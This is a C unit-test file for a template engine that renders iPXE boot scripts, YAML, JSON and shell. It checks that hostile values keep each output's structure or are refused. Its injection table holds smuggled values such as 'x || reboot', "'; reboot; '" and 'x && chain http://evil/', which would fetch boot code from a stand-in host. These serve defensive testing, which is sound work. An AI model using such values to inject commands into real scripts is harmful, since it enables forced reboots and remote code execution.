/*
 * Unit tests for templates: compile errors (exact "name:line:col"
 * messages), rendering, and injection: hostile values in every context
 * either keep the document's structure (checked by parsing the output
 * back: iPXE's tokenising rules, libyaml, jansson, POSIX quoting) or are
 * refused with -EINVAL.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <jansson.h>
#include <yaml.h>

#include "common/util.h"
#include "http/template.h"

/* A string literal with embedded NULs, and its length. */
#define S(s) { (s), sizeof(s) - 1 }

struct bytes {
	const char *p;		/* bytes */
	size_t len;		/* how many */
};

/* ---- compile errors ------------------------------------------------------ */

static const struct syntax_case {
	const char *src;	/* template (NUL-terminated unless len) */
	int rc;			/* expected return */
	const char *msg;	/* expected error message (prefix) */
} syntax_cases[] = {
	{ "plain text", 0, "" },
	{ "{{a}} {{ a.b }} {{.}} {{#x}}{{/x}}{{^y}}{{/y}}{{! any } thing }}", 0, "" },
	{ "{{#a}}x", -EINVAL, "t:1:1: unclosed section 'a'" },
	{ "ab\n  {{#a}}{{#b}}{{/b}}", -EINVAL, "t:2:3: unclosed section 'a'" },
	{ "{{#a}}\n  {{/b}}", -EINVAL, "t:2:3: mismatched close tag '/b', expected '/a'" },
	{ "x{{/a}}", -EINVAL, "t:1:2: close tag '/a' without an open section" },
	{ "x{{>partial}}", -EINVAL, "t:1:2: unknown tag kind '>'" },
	{ "{{=<% %>=}}", -EINVAL, "t:1:1: unknown tag kind '='" },
	{ "a\n\n{{{raw}}}", -EINVAL, "t:3:1: raw output tag '{{{' is not allowed" },
	{ "{{&raw}}", -EINVAL, "t:1:1: raw output tag '{{&' is not allowed" },
	{ "{{}}", -EINVAL, "t:1:1: empty tag name" },
	{ "{{  }}", -EINVAL, "t:1:1: empty tag name" },
	{ "{{#}}{{/}}", -EINVAL, "t:1:1: empty tag name" },
	{ "{{a b}}", -EINVAL, "t:1:1: bad character ' ' in tag name" },
	{ "{{a..b}}", -EINVAL, "t:1:1: bad character '.' in tag name" },
	{ "{{.a}}", -EINVAL, "t:1:1: bad character '.' in tag name" },
	{ "{{a.}}", -EINVAL, "t:1:1: bad character '.' in tag name" },
	{ "{{a/b}}", -EINVAL, "t:1:1: bad character '/' in tag name" },
	{ "{{#a\x01}}", -EINVAL, "t:1:1: bad character '\\x01' in tag name" },
	{ "ab\ncd{{x", -EINVAL, "t:2:3: unterminated tag" },
	{ "{{! never closed", -EINVAL, "t:1:1: unterminated tag" },
	{ "{{#a}}{{#a}}{{#a}}{{#a}}{{#a}}{{#a}}{{#a}}{{#a}}"
	  "{{#a}}{{#a}}{{#a}}{{#a}}{{#a}}{{#a}}{{#a}}{{#a}}{{#a}}",
	  -EINVAL, "t:1:97: nesting too deep (max 16)" },
};

static void test_syntax_table(void **state)
{
	for (size_t i = 0; i < IB_ARRAY_SIZE(syntax_cases); i++) {
		const struct syntax_case *c = &syntax_cases[i];
		struct ib_tpl *t = NULL;
		char err[IB_TPL_ERRLEN];
		int rc = ib_tpl_compile("t", c->src, strlen(c->src), IB_TPL_TEXT, &t, err);

		if (rc != c->rc || strncmp(err, c->msg, strlen(c->msg)) != 0)
			fail_msg("case %zu \"%s\": rc %d, err \"%s\"", i, c->src, rc, err);
		assert_true((rc == 0) == (t != NULL));
		ib_tpl_free(t);
	}
}

static void test_syntax_limits(void **state)
{
	size_t big = IB_TPL_SRC_MAX + 1;
	char *src = malloc(big);
	struct ib_tpl *t = NULL;
	char err[IB_TPL_ERRLEN];

	assert_non_null(src);
	memset(src, 'x', big);
	assert_int_equal(ib_tpl_compile("big.ipxe", src, big, IB_TPL_IPXE, &t, err), -EFBIG);
	assert_string_equal(err, "big.ipxe:1:1: template too large (max 1048576 bytes)");
	assert_null(t);
	/* exactly at the cap is fine */
	assert_int_equal(ib_tpl_compile("big", src, big - 1, IB_TPL_IPXE, &t, err), 0);
	ib_tpl_free(t);
	free(src);

	assert_int_equal(ib_tpl_compile("n", "a\nb\0c", 5, IB_TPL_TEXT, &t, err), -EINVAL);
	assert_string_equal(err, "n:2:2: NUL byte in template");
	/* a hostile name is sanitised in messages */
	assert_int_equal(ib_tpl_compile("a\nb", "{{", 2, IB_TPL_TEXT, &t, err), -EINVAL);
	assert_string_equal(err, "a\\x0ab:1:1: unterminated tag");
	/* err may be NULL */
	assert_int_equal(ib_tpl_compile("n", "{{", 2, IB_TPL_TEXT, &t, NULL), -EINVAL);
}

/* ---- rendering ----------------------------------------------------------- */

static const struct render_case {
	const char *src;		/* template */
	enum ib_tpl_context ctx;	/* compiled for */
	const char *json;		/* root value as JSON */
	int rc;				/* expected return */
	const char *out;		/* expected output when rc == 0 */
} render_cases[] = {
	{ "Hi {{name}}!", IB_TPL_TEXT, "{\"name\":\"n1\"}", 0, "Hi n1!" },
	{ "{{a.b.c}}", IB_TPL_TEXT, "{\"a\":{\"b\":{\"c\":\"deep\"}}}", 0, "deep" },
	{ "a{{missing}}b{{a.missing}}c", IB_TPL_TEXT, "{\"a\":{}}", 0, "abc" },
	{ "[{{a.b}}]", IB_TPL_TEXT, "{\"a\":\"str\"}", 0, "[]" },
	{ "{{#m}}{{name}}-{{host}}{{/m}}", IB_TPL_TEXT,
	  "{\"host\":\"h\",\"m\":{\"name\":\"x\"}}", 0, "x-h" },
	{ "{{#m}}{{m.name}}{{/m}}", IB_TPL_TEXT, "{\"m\":{\"name\":\"x\"}}", 0, "x" },
	/* a dotted name resolves its first segment only through the stack */
	{ "{{#m}}[{{a.b}}]{{/m}}", IB_TPL_TEXT,
	  "{\"a\":{\"b\":\"outer\"},\"m\":{\"a\":{}}}", 0, "[]" },
	{ "{{#l}}[{{.}}]{{/l}}", IB_TPL_TEXT, "{\"l\":[\"a\",\"b\",3]}", 0, "[a][b][3]" },
	{ "{{#disks}}{{dev}}:{{size}} {{/disks}}", IB_TPL_TEXT,
	  "{\"disks\":[{\"dev\":\"sda\",\"size\":10},{\"dev\":\"sdb\",\"size\":20}]}",
	  0, "sda:10 sdb:20 " },
	{ "{{#a}}{{#b}}{{x}}{{/b}}{{/a}}", IB_TPL_TEXT,
	  "{\"x\":\"o\",\"a\":[{\"b\":[1,2]},{\"b\":[],\"x\":\"i\"},{\"x\":\"j\",\"b\":true}]}",
	  0, "ooj" },
	{ "{{#s}}<{{.}}>{{/s}}", IB_TPL_TEXT, "{\"s\":\"v\"}", 0, "<v>" },
	{ "{{#t}}yes{{/t}}{{^t}}no{{/t}}", IB_TPL_TEXT, "{\"t\":true}", 0, "yes" },
	{ "{{#t}}yes{{/t}}{{^t}}no{{/t}}", IB_TPL_TEXT, "{\"t\":0}", 0, "yes" },
	{ "{{#t}}yes{{/t}}{{^t}}no{{/t}}", IB_TPL_TEXT, "{\"t\":false}", 0, "no" },
	{ "{{#t}}yes{{/t}}{{^t}}no{{/t}}", IB_TPL_TEXT, "{\"t\":null}", 0, "no" },
	{ "{{#t}}yes{{/t}}{{^t}}no{{/t}}", IB_TPL_TEXT, "{\"t\":\"\"}", 0, "no" },
	{ "{{#t}}yes{{/t}}{{^t}}no{{/t}}", IB_TPL_TEXT, "{\"t\":[]}", 0, "no" },
	{ "{{#t}}yes{{/t}}{{^t}}no{{/t}}", IB_TPL_TEXT, "{\"t\":{}}", 0, "no" },
	{ "{{#t}}yes{{/t}}{{^t}}no{{/t}}", IB_TPL_TEXT, "{}", 0, "no" },
	{ "{{^l}}{{x}}{{/l}}", IB_TPL_TEXT, "{\"x\":\"ctx kept\"}", 0, "ctx kept" },
	{ "{{t}} {{f}} {{i}} {{r}}", IB_TPL_TEXT,
	  "{\"t\":true,\"f\":false,\"i\":-42,\"r\":1.5}", 0, "true false -42 1.5" },
	{ "a{{! comment }}b", IB_TPL_TEXT, "{}", 0, "ab" },
	/* standalone section and comment lines vanish, with their blanks */
	{ "a\n{{#l}}\n- {{.}}\n  {{/l}}  \n{{! c }}\nb\n", IB_TPL_TEXT,
	  "{\"l\":[\"x\",\"y\"]}", 0, "a\n- x\n- y\nb\n" },
	{ "a\r\n{{#l}}\r\n{{.}}\r\n{{/l}}\r\nb", IB_TPL_TEXT, "{\"l\":[1]}", 0,
	  "a\r\n1\r\nb" },
	{ "{{#l}}\n{{.}}\n{{/l}}", IB_TPL_TEXT, "{\"l\":[1,2]}", 0, "1\n2\n" },
	/* not standalone: other text or a variable on the line */
	{ "x {{#l}}\n{{/l}}", IB_TPL_TEXT, "{\"l\":[1]}", 0, "x \n" },
	{ "{{v}}{{#l}}\n{{/l}}", IB_TPL_TEXT, "{\"v\":\"a\",\"l\":[1]}", 0, "a\n" },
	{ "{{l}}", IB_TPL_TEXT, "{\"l\":[1]}", -EINVAL, NULL },
	{ "{{o}}", IB_TPL_TEXT, "{\"o\":{\"a\":1}}", -EINVAL, NULL },
	/* per context literal forms */
	{ "h: {{h}}\nm: {{m}}\nn: {{n}}\nb: {{b}}\nr: {{r}}", IB_TPL_YAML,
	  "{\"h\":\"node1\",\"n\":7,\"b\":true,\"r\":0.5}", 0,
	  "h: \"node1\"\nm: \"\"\nn: 7\nb: true\nr: \"0.5\"" },
	{ "{\"h\":{{h}},\"m\":{{m}},\"n\":{{n}},\"b\":{{b}},\"r\":{{r}}}", IB_TPL_JSON,
	  "{\"h\":\"node1\",\"n\":7,\"b\":false,\"r\":0.5}", 0,
	  "{\"h\":\"node1\",\"m\":\"\",\"n\":7,\"b\":false,\"r\":0.5}" },
	{ "echo {{a}} {{m}}", IB_TPL_SHELL, "{\"a\":\"it's\"}", 0, "echo 'it'\\''s' ''" },
	{ "set h {{h}}\nchain {{u}}?mac=${net0/mac}", IB_TPL_IPXE,
	  "{\"h\":\"node1\",\"u\":\"http://198.18.0.1/b?x=1&y=2\"}", 0,
	  "set h node1\nchain http://198.18.0.1/b?x=1&y=2?mac=${net0/mac}" },
};

static void test_render_table(void **state)
{
	struct ib_tpl_out out;

	ib_tpl_out_init(&out, 0);
	for (size_t i = 0; i < IB_ARRAY_SIZE(render_cases); i++) {
		const struct render_case *c = &render_cases[i];
		json_t *root = json_loads(c->json, 0, NULL);
		struct ib_tpl *t = NULL;
		char err[IB_TPL_ERRLEN];
		int rc;

		assert_non_null(root);
		if (ib_tpl_compile("r", c->src, strlen(c->src), c->ctx, &t, err) < 0)
			fail_msg("case %zu: %s", i, err);
		rc = ib_tpl_render(t, root, &out);
		if (rc != c->rc || (rc == 0 && strcmp(out.buf, c->out) != 0))
			fail_msg("case %zu: rc %d (%s), out \"%s\"", i, rc, out.err,
				 rc == 0 ? out.buf : "");
		if (rc == 0)
			assert_int_equal(out.len, strlen(c->out));
		ib_tpl_free(t);
		json_decref(root);
	}
	ib_tpl_out_done(&out);
}

/* Render caps: output size and work. */
static void test_render_caps(void **state)
{
	const char *src = "{{#l}}{{#l}}{{#l}}{{#l}}{{#l}}{{#l}}{{#l}}{{#l}}x"
			  "{{/l}}{{/l}}{{/l}}{{/l}}{{/l}}{{/l}}{{/l}}{{/l}}";
	const char *quiet = "{{#l}}{{#l}}{{#l}}{{#l}}{{#l}}{{#l}}{{#l}}{{#l}}"
			    "{{/l}}{{/l}}{{/l}}{{/l}}{{/l}}{{/l}}{{/l}}{{/l}}";
	json_t *root = json_pack("{s:[iiiiiiiiii]}", "l", 0, 1, 2, 3, 4, 5, 6, 7, 8, 9);
	struct ib_tpl *t, *q;
	struct ib_tpl_out out;

	ib_tpl_out_init(&out, 1000);
	assert_int_equal(ib_tpl_compile("c", src, strlen(src), IB_TPL_TEXT, &t, NULL), 0);
	assert_int_equal(ib_tpl_render(t, root, &out), -E2BIG);
	assert_int_equal(out.len, 0);
	assert_string_equal(out.err, "c: output or work over the cap");
	/* no output at all, but 10^8 iterations: the step cap stops it */
	assert_int_equal(ib_tpl_compile("q", quiet, strlen(quiet), IB_TPL_TEXT, &q, NULL), 0);
	assert_int_equal(ib_tpl_render(q, root, &out), -E2BIG);
	/* the same out renders again after a failure; exactly max fits */
	ib_tpl_out_done(&out);
	ib_tpl_out_init(&out, 3);
	ib_tpl_free(t);
	assert_int_equal(ib_tpl_compile("c", "abc", 3, IB_TPL_TEXT, &t, NULL), 0);
	assert_int_equal(ib_tpl_render(t, NULL, &out), 0);
	assert_string_equal(out.buf, "abc");
	ib_tpl_out_done(&out);
	ib_tpl_free(t);
	ib_tpl_free(q);
	json_decref(root);
}

/* ---- injection ----------------------------------------------------------- */

static const struct bytes hostile[] = {
	S("a\nshell"), S("x || reboot"), S("x && chain http://evil/"),
	S("${root-path}"), S(":label"), S("#comment"), S("a\"b"), S("a\\b"),
	S("\xe2\x80\xa8"), S("\xe2\x80\xa9"), S("key: value\n- item"), S("}"),
	S("a\0b"), S("\0"), S("a'b"), S("'; reboot; '"), S("\r"), S("\t"),
	S("x\r\nchain http://evil/"), S("-n"), S("--autofree"), S("&&"), S("||"),
	S(";"), S("|"), S("&"), S("$"), S("${"), S("{{v}}"), S("a\\"), S("\\"),
	S("\xc3\xa9t\xc3\xa9"), S("\xff"), S("\xc0\xaf"), S("\xed\xa0\x80"),
	S("\xc2\x85"), S("\xef\xbb\xbf"), S("\xef\xbf\xbe"), S("\x7f"),
	S("\x1b[2J"), S("\x01\x02\x1f"), S("null"), S("~"), S("yes"), S("- item"),
	S("&anchor"), S("*alias"), S("!!binary"), S("%YAML 1.1"), S("---"),
	S("..."), S("@"), S("`x`"), S("\"quoted\""), S("'single'"), S("  lead"),
	S("trail  "), S("\\u0000"), S("\xf0\x9f\x98\x80"), S("\xf4\x90\x80\x80"),
	S("a b"), S("x\v"), S("x\f"), S(""),
};

static bool utf8_valid(const struct bytes *v)
{
	json_t *s = json_stringn(v->p, v->len);

	json_decref(s);
	return s != NULL;
}

/* Renders src (context ctx) with {"v": value}; returns the render rc. */
static int render_v(const char *src, enum ib_tpl_context ctx, const struct bytes *v,
		    struct ib_tpl_out *out)
{
	json_t *root = json_object();
	struct ib_tpl *t;
	char err[IB_TPL_ERRLEN];
	int rc;

	json_object_set_new(root, "v", json_stringn_nocheck(v->p, v->len));
	if (ib_tpl_compile("inj", src, strlen(src), ctx, &t, err) < 0)
		fail_msg("%s", err);
	rc = ib_tpl_render(t, root, out);
	if (rc < 0) {
		assert_int_equal(rc, -EINVAL);
		/* the message names the tag, never the value */
		assert_non_null(strstr(out->err, "value of 'v'"));
		if (v->len > 3 && memmem(out->err, strlen(out->err), v->p, v->len))
			fail_msg("message echoes the value: %s", out->err);
	}
	ib_tpl_free(t);
	json_decref(root);
	return rc;
}

/* iPXE's view of a script: lines, first words, chaining, comments, "${". */
struct ipxe_shape {
	unsigned lines;		/* lines after continuation joining */
	char first[16][32];	/* first word of each (up to 16) */
	unsigned chains;	/* "||", "&&", ";" tokens */
	unsigned comments;	/* tokens starting with '#' */
	unsigned expansions;	/* "${" */
	unsigned dashes;	/* tokens starting with '-' */
};

static void ipxe_shape(const char *s, struct ipxe_shape *sh)
{
	const char *ws = " \t\r\n\v\f";

	memset(sh, 0, sizeof(*sh));
	for (const char *p = s; *p; sh->lines++) {
		size_t len = strcspn(p, "\n"), k = 0;
		char line[1024], *tok, *save = NULL;

		assert_true(len < sizeof(line));
		memcpy(line, p, len);
		line[len] = '\0';
		assert_false(len && line[len - 1] == '\\');
		for (tok = strtok_r(line, ws, &save); tok; tok = strtok_r(NULL, ws, &save), k++) {
			if (k == 0 && sh->lines < 16)
				snprintf(sh->first[sh->lines], 32, "%s", tok);
			sh->chains += !strcmp(tok, "||") || !strcmp(tok, "&&") || !strcmp(tok, ";");
			sh->comments += tok[0] == '#';
			if (tok[0] == '#')
				break;		/* exec.c: the rest is a comment */
			sh->dashes += tok[0] == '-';
			for (char *d = tok; (d = strstr(d, "${")) != NULL; d++)
				sh->expansions++;
		}
		p += len + (p[len] == '\n');
	}
}

static const char *ipxe_templates[] = {
	"#!ipxe\n"
	"set hostname {{v}}\n"
	"chain http://198.18.0.1/boot?mac=${net0/mac}&h={{v}} || goto failed\n"
	"echo {{v}} x{{v}}y\n"
	":failed\n"
	"imgargs vmlinuz console={{v}} && boot\n"
	"echo {{v}}|{{v}}&{{v}}",
	"#!ipxe\nkernel http://198.18.0.1/k initrd=i {{v}}\n",
	"#!ipxe\n:l1 echo {{v}}\n",
	"#!ipxe\n# a comment {{v}}\necho ok\n",
};

static void test_inject_ipxe(void **state)
{
	static const struct bytes benign = S("node1");
	struct ipxe_shape want, got;
	struct ib_tpl_out out;
	unsigned refused = 0;

	ib_tpl_out_init(&out, 0);
	for (size_t k = 0; k < IB_ARRAY_SIZE(ipxe_templates); k++) {
		assert_int_equal(render_v(ipxe_templates[k], IB_TPL_IPXE, &benign, &out), 0);
		ipxe_shape(out.buf, &want);
		for (size_t i = 0; i < IB_ARRAY_SIZE(hostile); i++) {
			if (render_v(ipxe_templates[k], IB_TPL_IPXE, &hostile[i], &out) < 0) {
				refused++;
				continue;
			}
			ipxe_shape(out.buf, &got);
			if (memcmp(&got, &want, sizeof(want)) != 0)
				fail_msg("template %zu, value %zu changed the script:\n%s", k, i, out.buf);
		}
	}
	assert_true(refused > 0);
	ib_tpl_out_done(&out);
}

static const struct ipxe_case {
	const char *src;	/* template */
	const char *v;		/* value */
	int rc;			/* expected */
} ipxe_cases[] = {
	{ "echo {{v}}", "a\"b", 0 },		/* no quoting in iPXE: literal */
	{ "echo {{v}}", ":label", 0 },		/* a label only at line start */
	{ "echo x{{v}}", "-n", 0 },		/* inside a token: not an option */
	{ "echo x{{v}}", "#c", 0 },		/* inside a token: not a comment */
	{ "echo x{{v}}y", "&", 0 },
	{ "echo x{{v}}", "a&&b", 0 },
	{ "# {{v}}", "||", 0 },			/* inside a comment: inert */
	{ "echo {{v}}", "-n", -EINVAL },	/* an option */
	{ "echo {{v}}", "#c", -EINVAL },	/* a comment */
	{ "echo |{{v}}", "|", -EINVAL },	/* completes "||" */
	{ "echo {{v}}&", "&", -EINVAL },
	{ "echo {{v}}", ";", -EINVAL },
	{ "{{v}} x", "echo", -EINVAL },		/* the command name */
	{ "  {{v}}", "echo", -EINVAL },
	{ "ec{{v}} x", "ho", -EINVAL },
	{ "echo a || {{v}}", "reboot", -EINVAL },
	{ "echo a ; {{v}}", "reboot", -EINVAL },
	{ ":{{v}}", "l", -EINVAL },		/* a label */
	{ ":l {{v}}", "reboot", -EINVAL },	/* the command after a label */
	{ "echo ${{{v}}}", "x", -EINVAL },	/* compile error: "{{{" */
	{ "echo {{v}}\\\necho", "x", -EINVAL },	/* continuation */
	{ "echo {{v}}", "\xc3\xa9", -EINVAL },	/* non-ASCII */
};

static void test_ipxe_positions(void **state)
{
	struct ib_tpl_out out;

	ib_tpl_out_init(&out, 0);
	for (size_t i = 0; i < IB_ARRAY_SIZE(ipxe_cases); i++) {
		const struct ipxe_case *c = &ipxe_cases[i];
		json_t *root = json_pack("{s:s}", "v", c->v);
		struct ib_tpl *t;
		int rc = ib_tpl_compile("p", c->src, strlen(c->src), IB_TPL_IPXE, &t, NULL);

		assert_non_null(root);
		if (rc == 0) {
			rc = ib_tpl_render(t, root, &out);
			ib_tpl_free(t);
		}
		if (rc != c->rc)
			fail_msg("case %zu \"%s\" with \"%s\": rc %d", i, c->src, c->v, rc);
		json_decref(root);
	}
	ib_tpl_out_done(&out);
}

/* Parses "key: <text>" with libyaml; the scalar value, or -1. */
static long yaml_value(const char *doc, size_t len, char *buf, size_t cap)
{
	yaml_parser_t p;
	yaml_event_t e;
	int scalars = 0;
	long r = -1;
	bool done = false;

	yaml_parser_initialize(&p);
	yaml_parser_set_input_string(&p, (const unsigned char *)doc, len);
	while (!done && yaml_parser_parse(&p, &e)) {
		if (e.type == YAML_SCALAR_EVENT && ++scalars == 2 &&
		    e.data.scalar.length <= cap &&
		    e.data.scalar.style == YAML_DOUBLE_QUOTED_SCALAR_STYLE) {
			memcpy(buf, e.data.scalar.value, e.data.scalar.length);
			r = (long)e.data.scalar.length;
		}
		done = e.type == YAML_STREAM_END_EVENT;
		yaml_event_delete(&e);
	}
	yaml_parser_delete(&p);
	return done && scalars == 2 ? r : -1;
}

static void test_inject_yaml(void **state)
{
	struct ib_tpl_out out;
	char buf[256];
	unsigned ok = 0;

	ib_tpl_out_init(&out, 0);
	for (size_t i = 0; i < IB_ARRAY_SIZE(hostile); i++) {
		const struct bytes *v = &hostile[i];
		long n;

		if (render_v("key: {{v}}\n", IB_TPL_YAML, v, &out) < 0) {
			/* only NUL and invalid UTF-8 are refused */
			assert_true(memchr(v->p, '\0', v->len) || !utf8_valid(v));
			continue;
		}
		n = yaml_value(out.buf, out.len, buf, sizeof(buf));
		if (n != (long)v->len || memcmp(buf, v->p, v->len) != 0)
			fail_msg("value %zu: rendered \"%s\" reads back as %ld bytes", i, out.buf, n);
		assert_null(memchr(out.buf, '\r', out.len));
		assert_int_equal(strchr(out.buf, '\n') - out.buf, (long)out.len - 1);
		ok++;
	}
	assert_true(ok > 50);
	ib_tpl_out_done(&out);
}

static void test_inject_json(void **state)
{
	struct ib_tpl_out out;
	unsigned ok = 0;

	ib_tpl_out_init(&out, 0);
	for (size_t i = 0; i < IB_ARRAY_SIZE(hostile); i++) {
		const struct bytes *v = &hostile[i];
		json_t *doc, *s;

		if (render_v("{\"k\": {{v}}, \"after\": 1}", IB_TPL_JSON, v, &out) < 0) {
			assert_true(memchr(v->p, '\0', v->len) || !utf8_valid(v));
			continue;
		}
		doc = json_loads(out.buf, 0, NULL);
		assert_non_null(doc);
		s = json_object_get(doc, "k");
		assert_int_equal(json_object_size(doc), 2);
		if (!json_is_string(s) || json_string_length(s) != v->len ||
		    memcmp(json_string_value(s), v->p, v->len) != 0)
			fail_msg("value %zu: rendered %s", i, out.buf);
		/* raw line terminators never reach the output (JavaScript, logs) */
		assert_null(strstr(out.buf, "\xe2\x80\xa8"));
		assert_null(strstr(out.buf, "\xe2\x80\xa9"));
		for (size_t k = 0; k < out.len; k++)
			assert_true((unsigned char)out.buf[k] >= 0x20 && out.buf[k] != 0x7f);
		json_decref(doc);
		ok++;
	}
	assert_true(ok > 50);
	ib_tpl_out_done(&out);
}

static void test_inject_text(void **state)
{
	struct ib_tpl_out out;

	ib_tpl_out_init(&out, 0);
	for (size_t i = 0; i < IB_ARRAY_SIZE(hostile); i++) {
		const struct bytes *v = &hostile[i];

		if (render_v("a={{v}}\nb\n", IB_TPL_TEXT, v, &out) < 0)
			continue;
		/* the value comes out raw, and no new line appeared */
		assert_int_equal(out.len, v->len + 5);
		assert_memory_equal(out.buf + 2, v->p, v->len);
		for (size_t k = 0; k < v->len; k++)
			assert_true(v->p[k] == '\t' || (unsigned char)v->p[k] >= 0x20);
		assert_null(memmem(v->p, v->len, "\xe2\x80\xa8", 3));
		assert_null(memmem(v->p, v->len, "\xc2\x85", 2));
	}
	assert_int_equal(render_v("{{v}}", IB_TPL_TEXT, &hostile[0], &out), -EINVAL);
	ib_tpl_out_done(&out);
}

/* Reads one POSIX shell word made of '...' and \' parts; -1 if not. */
static long shell_word(const char *s, size_t len, char *buf)
{
	size_t i = 0, o = 0;

	while (i < len && s[i] != ' ' && s[i] != '\n') {
		if (s[i] == '\\' && i + 1 < len && s[i + 1] == '\'') {
			buf[o++] = '\'';
			i += 2;
		} else if (s[i] == '\'') {
			const char *q = memchr(s + i + 1, '\'', len - i - 1);

			if (!q)
				return -1;
			memcpy(buf + o, s + i + 1, (size_t)(q - s - i - 1));
			o += (size_t)(q - s - i - 1);
			i = (size_t)(q - s) + 1;
		} else {
			return -1;
		}
	}
	return i == len - 1 && s[i] == '\n' ? (long)o : -1;
}

static void test_inject_shell(void **state)
{
	struct ib_tpl_out out;
	char buf[512];

	ib_tpl_out_init(&out, 0);
	for (size_t i = 0; i < IB_ARRAY_SIZE(hostile); i++) {
		const struct bytes *v = &hostile[i];
		long n;

		if (render_v("echo {{v}}\n", IB_TPL_SHELL, v, &out) < 0) {
			assert_non_null(memchr(v->p, '\0', v->len));
			continue;
		}
		assert_memory_equal(out.buf, "echo ", 5);
		n = shell_word(out.buf + 5, out.len - 5, buf);
		if (n != (long)v->len || memcmp(buf, v->p, v->len) != 0)
			fail_msg("value %zu: rendered %s", i, out.buf);
	}
	ib_tpl_out_done(&out);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_syntax_table),
		cmocka_unit_test(test_syntax_limits),
		cmocka_unit_test(test_render_table),
		cmocka_unit_test(test_render_caps),
		cmocka_unit_test(test_inject_ipxe),
		cmocka_unit_test(test_ipxe_positions),
		cmocka_unit_test(test_inject_yaml),
		cmocka_unit_test(test_inject_json),
		cmocka_unit_test(test_inject_text),
		cmocka_unit_test(test_inject_shell),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
